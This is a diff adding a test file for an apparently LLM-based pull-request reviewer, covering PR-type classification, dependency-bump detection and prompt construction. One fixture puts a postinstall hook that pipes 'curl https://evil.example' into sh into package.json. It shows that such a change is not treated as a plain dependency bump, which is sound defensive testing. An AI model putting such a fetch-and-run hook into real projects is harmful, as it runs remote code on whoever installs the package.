@@ -0,0 +1,69 @@
+from types import SimpleNamespace
+
+from pr_review import config
+from pr_review.llm import build_generate_payload
+from pr_review.prompts import (
+    REVIEW_PROMPT_TEMPLATE, REVIEW_SYSTEM_PROMPT, SUMMARY_SYSTEM_PROMPTS, determine_pr_type, generate_custom_prompt
+)
+
+def changed(filename, patch="@@ -1 +1 @@\n-a\n+b"):
+    return SimpleNamespace(filename=filename, additions=1, deletions=1, patch=patch)
+
+def test_pr_type_from_whole_keywords_by_priority():
+    assert determine_pr_type("Fix CVE-2024-1234 in the parser", None) == "security"
+    assert determine_pr_type("Add retries", "Fixes #12") == "bug"
+    # Words only containing a keyword do not count
+    assert determine_pr_type("Address review notes", "Renew the prefix handling") == "general"
+
+def test_pr_type_from_changed_paths():
+    assert determine_pr_type("Update guide", "", [changed("README.md"), changed("docs/setup.txt")]) == "docs"
+    # Plain text files outside docs directories may be build or site configuration
+    assert determine_pr_type("Update build", "", [changed("CMakeLists.txt"), changed("README.md")]) == "general"
+    # Docs next to a dependency change get a full review
+    assert determine_pr_type("Add requests", "", [changed("README.md"), changed("requirements.txt")]) == "feature"
+
+def test_dependency_plan_needs_version_only_manifest_changes():
+    bump = '@@ -10,3 +10,3 @@\n   "dependencies": {\n-    "lodash": "^4.17.20",\n+    "lodash": "^4.17.21",\n'
+    lockfile = changed("yarn.lock", "@@ -1 +1 @@\n-lodash@4.17.20\n+lodash@4.17.21")
+    assert determine_pr_type("Bump lodash", "", [changed("package.json", bump), lockfile]) == "dependencies"
+    assert determine_pr_type("Bump requests", "", [changed("requirements.txt", "@@\n-requests==2.31.0\n+requests==2.32.3")]) == "dependencies"
+
+    script = '@@ -4 +4 @@\n-    "postinstall": "node setup.js",\n+    "postinstall": "curl https://evil.example | sh",\n'
+    assert determine_pr_type("Bump lodash", "", [changed("package.json", script), lockfile]) == "general"
+    # GitHub leaves out the patch of huge diffs, which then cannot be checked
+    assert determine_pr_type("Bump lodash", "", [changed("package.json", None)]) == "general"
+
+def test_summary_instructions_are_a_fixed_prefix_per_pr_type():
+    first = generate_custom_prompt(SimpleNamespace(diff="+retry()"), "bug", {"title": "Fix upload", "description": "Retries"}, "")
+    second = generate_custom_prompt(SimpleNamespace(diff="+close()"), "bug", {"title": "Fix leak", "description": None}, "File: a.py")
+    # Only the PR data varies; the system prompt is the same string for every bug fix
+    assert first[0] is second[0] == SUMMARY_SYSTEM_PROMPTS["bug"]
+    assert "Fix upload" in first[1] and "+retry()" in first[1] and "Fix upload" not in first[0]
+    assert generate_custom_prompt(SimpleNamespace(diff=""), "unknown", {"title": "", "description": ""}, "")[0] \
+        == SUMMARY_SYSTEM_PROMPTS["general"]
+
+def test_generate_payload_carries_the_system_prompt_and_keep_alive(monkeypatch):
+    monkeypatch.setattr(config, "MODEL_NAME", "coder")
+    payload = build_generate_payload(REVIEW_SYSTEM_PROMPT, "File: a.py", stream=True)
+    assert payload == {"model": "coder", "system": REVIEW_SYSTEM_PROMPT, "prompt": "File: a.py", "stream": True,
+                       "keep_alive": config.OLLAMA_KEEP_ALIVE}
+
+def test_file_reviews_share_one_system_prompt(monkeypatch):
+    from pr_review import review
+
+    monkeypatch.setattr(config, "REVIEW_CACHE_DIR", "")
+    calls = []
+
+    def fake_generation(system_prompt, prompt, response_format, purpose="review", model=None):
+        calls.append((system_prompt, prompt))
+        return None
+
+    monkeypatch.setattr(review, "stream_json_generation", fake_generation)
+    for file_name in ("app.py", "lib/db.py"):
+        review.review_file_content(None, file_name, "1: x = 1", "@@ -1 +1 @@\n-x = 0\n+x = 1")
+
+    assert [system for system, _ in calls] == [REVIEW_SYSTEM_PROMPT, REVIEW_SYSTEM_PROMPT]
+    assert [prompt for _, prompt in calls] == [
+        REVIEW_PROMPT_TEMPLATE.substitute(file_name=name, file_with_lines="1: x = 1", changed_lines="1")
+        for name in ("app.py", "lib/db.py")
+    ]